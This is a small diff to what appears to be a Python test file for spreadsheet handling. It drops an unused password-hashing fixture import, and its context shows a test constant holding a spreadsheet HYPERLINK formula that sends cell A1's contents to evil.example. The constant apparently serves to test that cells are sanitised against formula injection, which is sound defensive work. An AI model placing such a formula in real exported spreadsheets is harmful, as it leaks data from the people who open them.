@@ -23,11 +23,9 @@ from app.cases.models import Case
 from app.experts.models import Expert
 from app.extensions import db
 from app.spreadsheets import safe_cell, unquote_cell
-from tests.api.conftest import _fast_password_hashing
 from tests.api.helpers import assert_error, upload
 from tests.api.test_cases import case_body
 
-__all__ = ["_fast_password_hashing"]
 
 GUARD_UI_TEXT = "提交的内容含有不可见的控制字符"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
